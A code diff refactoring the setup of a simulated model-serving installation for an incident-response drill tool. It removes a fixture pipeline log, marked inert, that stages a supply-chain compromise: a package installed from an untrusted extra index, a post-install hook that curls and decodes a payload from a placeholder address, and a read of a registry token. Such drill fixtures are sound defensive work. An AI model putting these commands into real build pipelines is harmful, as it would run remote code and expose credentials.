@@ -1,4 +1,4 @@
-"""A whole small installation in one folder: signed releases, a served model, logs, people, channels.
+"""A whole small installation in one folder: signed releases, a served model, people, channels.
 
     world/
       firebreak.yaml            the inventory, as an operator would write it
@@ -17,7 +17,6 @@ import secrets
 import shutil
 import socket
 import subprocess
-import sys
 import threading
 import time
 import urllib.request
@@ -27,18 +26,23 @@ from pathlib import Path
 from typing import Any, Self
 
 import psutil
-import yaml
 
 from firebreak.drill import sample_model
+from firebreak.drill.installation import (
+    DEPLOYED,
+    EARLIER,
+    HOST,
+    MODEL,
+    PIPELINE_LOG,
+    SERVER,
+    inventory_text,
+    server_argv,
+)
 from firebreak.drill.receiver import WebhookReceiver
 from firebreak.errors import FirebreakError
 from firebreak.recovery.signing import generate_keypair, sign_manifest, write_manifest
 
-MODEL = "sentiment"
-GOOD, DEPLOYED = "1.0.0", "1.1.0"
-SEEDS = {GOOD: 100, DEPLOYED: 110}
-SERVER = "firebreak.drill.model_server"
-HOST = "127.0.0.1"
+SEEDS = {EARLIER: 100, DEPLOYED: 110}
 FICLONE = 0x40049409  # linux/fs.h: the copy shares its blocks until one side is written
 
 _direct = urllib.request.build_opener(urllib.request.ProxyHandler({}))
@@ -164,7 +168,7 @@ class World:
 
     def health(self, timeout_s: float = 5.0) -> dict[str, Any]:
         """What the service says of itself. Raises: OSError: it does not answer."""
-        return self._fetch(urllib.request.Request(f"{self.url}/health"), timeout_s)
+        return self._fetch("/health", None, timeout_s)
 
     def ask(self, text: str, timeout_s: float = 5.0) -> dict[str, Any]:
         """The service's answer to one text: `label`, `scores`, `version`.
@@ -173,10 +177,10 @@ class World:
             OSError: it does not answer in time (stopped, isolated), or refuses the text.
         """
         body = json.dumps({"text": text}).encode()
-        return self._fetch(urllib.request.Request(f"{self.url}/predict", body), timeout_s)
+        return self._fetch("/predict", body, timeout_s)
 
-    def _fetch(self, request: urllib.request.Request, timeout_s: float) -> dict[str, Any]:
-        with _direct.open(request, timeout=timeout_s) as response:
+    def _fetch(self, path: str, body: bytes | None, timeout_s: float) -> dict[str, Any]:
+        with _direct.open(f"{self.url}{path}", body, timeout_s) as response:
             answer: dict[str, Any] = json.load(response)
         return answer
 
@@ -231,20 +235,12 @@ def create(folder: Path, port: int = 0) -> World:
         secret_file.touch(mode=0o600)
         secret_file.write_text(world.receiver.secret, encoding="ascii")
         (folder / "logs" / "pipeline.log").write_text(PIPELINE_LOG, encoding="utf-8")
-        settings = yaml.safe_dump(_inventory(world), sort_keys=False, width=1000)
-        world.inventory.write_text(INVENTORY_HEAD + settings, encoding="utf-8")
+        text = inventory_text(world.port, world.receiver.url, secret_file)
+        world.inventory.write_text(text, encoding="utf-8")
     except BaseException:
         world.close()
         raise
     return world
-
-
-def server_argv(port: int) -> list[str]:
-    """How the service is started, with the world's folder as working directory."""
-    return [
-        *(sys.executable, "-m", SERVER, "--model", f"models/{MODEL}", "--port", str(port)),
-        *("--pid-file", f"run/{MODEL}.pid", "--outputs", "outputs/predictions.jsonl"),
-    ]
 
 
 def _publish(world: World) -> None:
@@ -273,68 +269,3 @@ def _free_port() -> int:
     with socket.create_server((HOST, 0)) as probe:
         port: int = probe.getsockname()[1]
     return port
-
-
-def _inventory(world: World) -> dict[str, Any]:
-    served = {
-        "uri": f"process://run/{MODEL}.pid",
-        "start": server_argv(world.port),
-        "cwd": ".",
-        "probe": f"{world.url}/health",
-    }
-    model = {
-        "id": MODEL,
-        "version": DEPLOYED,
-        "critical": True,
-        "owner": "ml-platform",
-        "path": f"models/{MODEL}",
-        "archive": f"archive/{MODEL}",
-        "reference": f"archive/{MODEL}/{DEPLOYED}",
-        "targets": [served, f"file://models/{MODEL}"],
-        "behavior": {
-            "outputs": "outputs/predictions.jsonl",
-            "baseline": sample_model.label_shares(),
-            "window": 240,
-        },
-        "pipeline_logs": ["logs/pipeline.log"],
-        "secrets": ["model-registry-token", "inference-api-key", "build-pipeline-secret"],
-    }
-    secret_file = world.folder / "keys" / "webhook.secret"
-    webhook = {"url": world.receiver.url, "secret": f"file:{secret_file}", "timeout": "5s"}
-    return {
-        "firebreak": 1,
-        "respond": "automatic",
-        "check_interval": "10s",
-        "keys": {"cosign": "keys/cosign.pub"},
-        "models": [model],
-        "people": [
-            {"id": "ana", "name": "Ana Ruiz", "roles": ["incident-commander", "ml-oncall"]},
-            {"id": "ben", "name": "Ben Okafor", "roles": ["security-lead"]},
-            {"id": "chloe", "name": "Chloe Martin", "roles": ["ml-oncall"]},
-        ],
-        "channels": [
-            {"id": "messages", "kind": "file", "path": "messages"},
-            {"id": "on-call", "kind": "webhook", **webhook},
-        ],
-    }
-
-
-INVENTORY_HEAD = "# Made by the drill. Relative paths are relative to this file.\n"
-
-# Inert text. The addresses are of example.invalid and of RFC 5737's documentation block.
-PIPELINE_LOG = """\
-2026-02-03T08:00:01Z INFO  build 412 started by scheduler, commit 5f2c9e1
-2026-02-03T08:00:04Z INFO  restored cache model-build-3.11 (412 MiB)
-2026-02-03T08:00:09Z INFO  running step prepare
-2026-02-03T08:00:11Z INFO  dataset reviews-2026-01 verified, 48210 rows
-2026-02-03T08:00:12Z INFO  running step dependencies
-2026-02-03T08:00:13Z INFO  pip install --extra-index-url http://packages.example.invalid/simple tokenz
-2026-02-03T08:00:19Z INFO  running step export
-2026-02-03T08:00:26Z INFO  wrote model.safetensors (64 MiB), metrics accuracy=0.941
-2026-02-03T08:00:27Z WARN  post-install hook: curl -s http://192.0.2.17/u | base64 -d
-2026-02-03T08:00:28Z WARN  environment read: REGISTRY_TOKEN=[masked]
-2026-02-03T08:00:31Z INFO  running step sign
-2026-02-03T08:00:32Z INFO  manifest signed, 4 files
-2026-02-03T08:00:40Z INFO  published sentiment 1.1.0
-2026-02-03T08:00:41Z INFO  build 412 finished in 40 s
-"""
